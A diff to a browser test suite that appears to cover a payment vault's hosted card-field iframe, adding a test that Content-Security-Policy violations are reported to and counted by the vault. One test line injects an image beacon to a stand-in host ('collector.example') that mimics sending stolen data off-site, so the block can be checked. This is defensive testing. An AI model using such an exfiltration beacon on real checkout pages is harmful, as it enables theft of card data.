@@ -280,7 +280,7 @@ describe('hosted card fields and the demo checkout, in Chromium', { skip: skipWi
     assert.equal(allowed.status, 200);
     const csp = allowed.headers.get('content-security-policy') ?? '';
     assert.equal(csp, hostedFieldsCsp(demoOrigin));
-    assert.match(csp, new RegExp(`frame-ancestors ${demoOrigin.replace(/[.]/g, '\\.')}$`));
+    assert.match(csp, new RegExp(`frame-ancestors ${demoOrigin.replace(/[.]/g, '\\.')};`));
     assert.match(csp, /script-src 'self';/);
     assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|\*/);
     assert.match(allowed.text, /<script src="\/hosted\/card-fields\.js" integrity="sha384-[^"]+" defer>/);
@@ -325,6 +325,63 @@ describe('hosted card fields and the demo checkout, in Chromium', { skip: skipWi
     const honest = page.frames().find((f) => f !== page.mainFrame());
     assert.equal(await honest?.locator('#number').count(), 0, 'the vault refused to serve the fields');
     await page.close();
+  });
+
+  test('what the CSP of the fields page blocks is reported to the vault and counted (PCI DSS 11.6.1)', async () => {
+    const metrics = platform.platform.services.metrics.vault;
+    assert.ok(metrics);
+    const imgViolations = async () =>
+      Number(
+        /^cardhold_csp_violations_total\{directive="img-src",role="vault"\} (\d+)/m.exec(
+          await metrics.metrics(),
+        )?.[1],
+      );
+    const before = await imgViolations();
+    assert.equal(Number.isNaN(before), false, 'the series exists before any violation');
+    const page = await context.newPage();
+    const fieldsPage = page.waitForResponse((r) => r.url().includes('/hosted/card-fields?'));
+    await page.goto(demoUrl);
+    const frame = await fieldsFrame(page);
+    const response = await fieldsPage;
+    assert.equal(response.headers()['reporting-endpoints'], 'cardhold-csp="/hosted/csp-reports"');
+    // An injected image that would carry data off to another origin: the browser blocks and reports it.
+    // (Chromium's console quotes the blocked URL whole, so no card number goes in it here; what the
+    // vault keeps of a report, origin only, is tested in csp-reports.test.ts.)
+    await frame.evaluate(`new Image().src = 'https://collector.example/c.gif?data=stolen'`);
+    let after = before;
+    for (const until = Date.now() + 20_000; after === before && Date.now() < until; ) {
+      await page.waitForTimeout(100);
+      after = await imgViolations();
+    }
+    assert.ok(after > before, 'the violation reached the vault');
+    await page.close();
+
+    // The report route as any client sees it: public, the two report media types, nothing else.
+    const reportUrl = `${platform.vaultUrl}/hosted/csp-reports`;
+    const post = (contentType: string, rawBody: string) =>
+      platform.request<{ code?: string; field?: string }>('POST', reportUrl, {
+        key: null,
+        rawBody,
+        headers: { 'content-type': contentType },
+      });
+    const legacy = JSON.stringify({
+      'csp-report': { 'effective-directive': 'img-src', 'blocked-uri': 'https://a.example/x' },
+    });
+    const batch = JSON.stringify([
+      { type: 'csp-violation', body: { effectiveDirective: 'img-src', blockedURL: 'inline' } },
+    ]);
+    assert.equal((await post('application/csp-report', legacy)).status, 204);
+    assert.equal((await post('application/reports+json', batch)).status, 204);
+    assert.equal(await imgViolations(), after + 2);
+    const notReport = await post('application/reports+json', '{"a":1}');
+    assert.deepEqual(
+      [notReport.status, notReport.json.code, notReport.json.field],
+      [400, 'request_invalid', 'body'],
+    );
+    assert.equal((await post('application/reports+json', '[{')).json.code, 'body_not_json');
+    assert.equal((await post('text/plain', legacy)).json.code, 'request_invalid', 'text is not a report');
+    assert.equal((await post('application/xml', '<r/>')).status, 415);
+    assert.equal((await post('application/csp-report', `[${'1,'.repeat(40_000)}1]`)).status, 413);
   });
 
   test('the iframe ignores messages from a window that is not its allow-listed parent', async () => {
